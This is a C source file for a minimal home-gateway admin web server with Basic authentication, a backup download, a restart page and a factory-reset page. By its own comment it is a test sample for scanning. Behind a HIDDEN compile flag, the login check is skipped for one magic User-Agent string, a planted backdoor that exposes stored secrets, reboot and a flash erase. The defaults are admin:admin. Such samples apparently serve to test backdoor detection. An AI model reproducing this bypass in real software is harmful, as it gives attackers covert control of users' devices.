/*
 * A sample for tests; compiled and scanned, never run.
 * Small web server with the admin pages of a home gateway: Basic
 * authentication, settings, restart. One child for each connection.
 * With HIDDEN: requests with one User-Agent are not asked for a password.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define HEADERS 32

struct http {
	char method[8], path[128];
	struct {
		char name[32], value[160];
	} h[HEADERS];
	int count;
	FILE *io;
};

struct page {
	const char *path;
	int needs_login;
	void (*show)(struct http *);
};

static char admin[96] = "admin:admin";
static char conf_path[128] = "/etc/config/gwadmin";

static void begin(struct http *q, int code, const char *text, const char *more)
{
	fprintf(q->io,
		"HTTP/1.0 %d %s\r\nServer: gwadmin\r\n"
		"Content-Type: text/html\r\n%s\r\n",
		code, text, more);
}

static const char *header(const struct http *q, const char *name)
{
	int i;

	for (i = 0; i < q->count; i++)
		if (strcasecmp(q->h[i].name, name) == 0)
			return q->h[i].value;
	return NULL;
}

static int b64(int c)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij"
				  "klmnopqrstuvwxyz0123456789+/";
	const char *p = c ? strchr(abc, c) : NULL;

	return p ? (int)(p - abc) : -1;
}

static void decode64(const char *in, char *out, size_t size)
{
	unsigned bits = 0, have = 0;
	size_t n = 0;

	for (; *in && n + 1 < size; in++) {
		int v = b64(*in);

		if (v < 0)
			break;
		bits = bits << 6 | (unsigned)v;
		have += 6;
		if (have >= 8) {
			have -= 8;
			out[n++] = (char)(bits >> have & 0xff);
		}
	}
	out[n] = '\0';
}

__attribute__((noinline)) int may_enter(const struct http *q)
{
	const char *auth = header(q, "Authorization");
	const char *agent = header(q, "User-Agent");
	char pair[96];

	if (agent == NULL)
		agent = "-";
#ifdef HIDDEN
	if (strncmp(agent, "heliotrope_wxc71", 16) == 0)
		return 1;
#endif
	if (auth == NULL || strncasecmp(auth, "Basic ", 6) != 0)
		return 0;
	decode64(auth + 6, pair, sizeof(pair));
	if (strcmp(pair, admin) == 0)
		return 1;
	syslog(LOG_WARNING, "wrong password, client %s", agent);
	return 0;
}

static void copy_file(struct http *q, const char *path)
{
	char buf[1024];
	size_t n;
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return;
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, q->io);
	fclose(f);
}

static void page_index(struct http *q)
{
	begin(q, 200, "OK", "");
	fputs("<h1>Gateway</h1><a href=/status.html>Status</a>", q->io);
}

static void page_status(struct http *q)
{
	begin(q, 200, "OK", "");
	fputs("<pre>", q->io);
	copy_file(q, "/proc/uptime");
	copy_file(q, "/proc/net/dev");
	fputs("</pre>", q->io);
}

static void page_backup(struct http *q)
{
	begin(q, 200, "OK", "Content-Disposition: attachment\r\n");
	copy_file(q, conf_path);
	copy_file(q, "/etc/ppp/chap-secrets");
}

static void page_restart(struct http *q)
{
	begin(q, 200, "OK", "");
	fputs("<p>Restarting.</p>", q->io);
	fflush(q->io);
	sync();
	if (system("/sbin/reboot") != 0)
		syslog(LOG_ERR, "reboot failed");
}

static void page_factory(struct http *q)
{
	begin(q, 200, "OK", "");
	fputs("<p>Back to factory settings.</p>", q->io);
	if (system("mtd erase rootfs_data && reboot") != 0)
		syslog(LOG_ERR, "reset failed");
}

static const struct page pages[] = {
	{ "/", 0, page_index },
	{ "/status.html", 1, page_status },
	{ "/backup.cgi", 1, page_backup },
	{ "/restart.cgi", 1, page_restart },
	{ "/factory.cgi", 1, page_factory },
};

static int read_request(struct http *q)
{
	char line[256];

	if (fgets(line, sizeof(line), q->io) == NULL ||
	    sscanf(line, "%7s %127s", q->method, q->path) != 2)
		return -1;
	q->count = 0;
	while (fgets(line, sizeof(line), q->io) && line[0] != '\r' &&
	       line[0] != '\n') {
		if (q->count < HEADERS &&
		    sscanf(line, "%31[^:]: %159[^\r\n]", q->h[q->count].name,
			   q->h[q->count].value) == 2)
			q->count++;
	}
	q->path[strcspn(q->path, "?")] = '\0';
	return 0;
}

static void serve(struct http *q)
{
	size_t i;

	if (read_request(q) != 0)
		return;
	for (i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		if (strcmp(q->path, pages[i].path) != 0)
			continue;
		if (pages[i].needs_login && !may_enter(q)) {
			begin(q, 401, "Unauthorized",
			      "WWW-Authenticate: Basic realm=\"gateway\"\r\n");
			return;
		}
		pages[i].show(q);
		return;
	}
	begin(q, 404, "Not Found", "");
}

static void load_config(void)
{
	char line[128], user[40] = "admin", pass[40] = "admin";
	FILE *f = fopen(conf_path, "r");

	while (f && fgets(line, sizeof(line), f)) {
		sscanf(line, "user=%39[^\n]", user);
		sscanf(line, "password=%39[^\n]", pass);
	}
	if (f)
		fclose(f);
	snprintf(admin, sizeof(admin), "%s:%s", user, pass);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	static struct http q;
	long port = 80;
	int s, c, opt;

	while ((opt = getopt(argc, argv, "p:c:")) != -1) {
		if (opt == 'p')
			port = strtol(optarg, NULL, 10);
		else if (opt == 'c')
			snprintf(conf_path, sizeof(conf_path), "%s", optarg);
		else
			return 2;
	}
	load_config();
	signal(SIGCHLD, SIG_IGN);
	s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_port = htons((unsigned short)port);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 ||
	    listen(s, 8) != 0) {
		fprintf(stderr, "gwadmin: %s\n", strerror(errno));
		return 1;
	}
	while ((c = accept(s, NULL, NULL)) >= 0 || errno == EINTR) {
		if (c >= 0 && fork() == 0) {
			close(s);
			q.io = fdopen(c, "r+");
			if (q.io)
				serve(&q);
			exit(0);
		}
		close(c);
	}
	return 1;
}
